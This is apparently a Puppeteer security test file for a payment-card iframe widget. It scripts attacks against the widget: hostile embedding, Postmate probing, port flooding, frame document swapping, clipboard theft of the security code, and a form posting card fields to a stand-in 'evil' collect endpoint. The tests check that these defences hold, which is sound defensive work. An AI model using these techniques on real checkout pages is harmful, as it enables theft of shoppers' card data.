import type {Page} from 'puppeteer-core';
import {readyFrame, typeInto, typeWholeCard, untilLeft} from '../../support/browser.ts';
import {snippet} from '../../support/servers.ts';
import type {Attack} from '../security/attacks/attack.ts';
import {
  CARD,
  CHANNEL,
  FRAME_PATH,
  obtainedBy,
  openAround,
  serveWithoutHeaders,
} from '../security/attacks/attacker-page.ts';
import {openHostileHost, requestSeal} from '../security/attacks/hostile-host.ts';

/**
 * Attack on the check of the origin: an attacker's page embeds the frame document, served without its headers, and
 * offers it a port. It never returns if the attack fails.
 *
 * @returns the messages that the attacker's page got.
 */
export const embedAnywhere: Attack = async (page, servers) => {
  await openAround(page, servers, (await serveWithoutHeaders(servers)) + FRAME_PATH);
  await page.waitForFunction(`obtained.some((each) => each.startsWith('port '))`, {polling: 100});
  return obtainedBy(page.mainFrame());
};

/**
 * Attack on the rule that Postmate receives one handshake and nothing else: a listed page asks Postmate for properties
 * of its model.
 *
 * @returns what Postmate answered.
 */
export const askPostmate: Attack = async (page, servers) => {
  await openHostileHost(page, servers);
  await page.evaluate(`for (const property of ['valueOf', 'constructor', 'cardNumber'])
    document.querySelector('iframe').contentWindow.postMessage(
      {postmate: 'request', type: 'application/x-postmate-v1+json', property, uid: property}, '${servers.widget}')`);
  await requestSeal(page, 1); // answered after the requests
  const replies = (await page.evaluate('replies')) as {postmate?: string; uid?: string}[];
  return replies.filter(({postmate}) => postmate === 'reply').map(({uid = ''}) => `a reply about ${uid}`);
};

/**
 * Attack on the rate cap: a listed page sends many more commands at once than a port accepts in a second.
 *
 * @returns how many were answered, if they are more than two seconds' worth.
 */
export const floodPort: Attack = async (page, servers) => {
  await openHostileHost(page, servers, {fields: 'expiry'});
  await page.evaluate(`for (let request = 1; request <= 1000; request += 1)
    send('seal', {request, submission: 'a'.repeat(32)});`);
  // The last one is sent again until a second has room for it.
  await page.waitForFunction(
    `heard.some(({payload}) => payload.request === 1001) ||
      void send('seal', {request: 1001, submission: 'a'.repeat(32)})`,
    {polling: 100},
  );
  const answered = (await page.evaluate(`heard.filter(({event}) => event === 'refused').length`)) as number;
  return answered > 800 ? [`${answered} answers`] : [];
};

/** In the merchant's page: shows another document in the frame before ours has loaded, and records a port that is made for it. */
const REPLACE = (url: string) => `if (window === top) {
  Object.assign(window, {hasGreeted: false, hasPort: false});
  new MutationObserver((_, observer) => {
    const frame = document.querySelector('sealed-fields iframe[src]');
    if (frame === null) return;
    observer.disconnect();
    frame.contentWindow.location.replace('${url}');
  }).observe(document, {childList: true, subtree: true, attributes: true});
  const Channel = MessageChannel;
  window.MessageChannel = class extends Channel {
    constructor() {
      super();
      window.hasPort = true;
    }
  };
  addEventListener('message', ({data}) => {
    if (data?.sealed === 'hello' && data.channel === '${CHANNEL}') setTimeout(() => { window.hasGreeted = true; });
  });
}`;

/**
 * Attack on the checks of the channel: the frame shows a document that the element did not open, as it may after
 * Back. The document belongs to a merchant whose key another company holds.
 *
 * @returns names of the values that were encrypted with that key.
 */
export const showOtherDocument: Attack = async (page, servers) => {
  const fragment = new URLSearchParams({
    channel: CHANNEL,
    protocol: '1',
    fields: 'cardNumber,expiry,securityCode',
    layout: 'stacked',
    locale: 'en',
    colorScheme: 'light',
  });
  const url = `${servers.widget}/v1/m/demo-jwe/#${fragment.toString()}`;
  servers.pages.set('/shop', snippet(servers, '<form><sealed-fields></sealed-fields></form>'));
  await page.evaluateOnNewDocument(REPLACE(url));
  await page.goto(`${servers.page}/shop`);
  await page.waitForFunction('hasGreeted');
  if ((await page.evaluate('hasPort')) !== true) return [];
  await typeWholeCard(page, await readyFrame(page, servers), CARD);
  const result = await page.$eval('sealed-fields', (element) => element.seal());
  return result.ok ? Object.keys(result.values) : [];
};

/**
 * Attack on the clipboard: a page asks the shopper to copy the security code and paste it into an input of its own.
 *
 * @returns what was pasted.
 */
export const pasteSecret: Attack = async (page, servers) => {
  const body = '<form><sealed-fields></sealed-fields></form><textarea>copied before</textarea>';
  servers.pages.set('/shop', snippet(servers, body));
  await page.goto(`${servers.page}/shop`);
  const frame = await readyFrame(page, servers);
  await page.click('textarea');
  await pressControl(page, 'a');
  await pressControl(page, 'c');
  await typeInto(page, frame, 'securityCode', CARD.securityCode);
  await pressControl(page, 'a');
  await pressControl(page, 'c');
  await page.click('textarea');
  await untilLeft(frame);
  await page.$eval('textarea', (area) => {
    area.value = '';
  });
  await pressControl(page, 'v');
  const handle = await page.waitForFunction(`document.querySelector('textarea').value`);
  const pasted = (await handle.jsonValue()) as string;
  return pasted === 'copied before' ? [] : [pasted];
};

/**
 * Attack on the check of form actions: markup that a site has let through shows our fields in a form of another origin.
 *
 * @returns names of the sealed values that the form would post there.
 */
export const postElsewhere: Attack = async (page, servers) => {
  const body = `<form method="post" action="${servers.evil}/collect"><sealed-fields></sealed-fields><button>Pay</button></form>`;
  servers.pages.set('/shop', snippet(servers, body));
  await page.goto(`${servers.page}/shop`);
  await typeWholeCard(page, await readyFrame(page, servers), CARD);
  await page.waitForFunction(`document.querySelector('sealed-fields').state.complete`);
  await page.evaluate(`{
    window.outcome = new Promise((resolve) => {
      addEventListener('sealed-error', ({detail}) => resolve(detail.code));
      addEventListener('submit', (event) => {
        event.preventDefault();
        resolve([...new FormData(event.target).keys()]);
      });
    });
    undefined; // not the promise, which evaluate() would wait for
  }`);
  await page.click('button');
  const outcome = (await page.evaluate('outcome')) as string | string[];
  return outcome === 'action-refused' ? [] : [outcome].flat();
};

async function pressControl(page: Page, key: 'a' | 'c' | 'v'): Promise<void> {
  await page.keyboard.down('Control');
  await page.keyboard.press(key);
  await page.keyboard.up('Control');
}
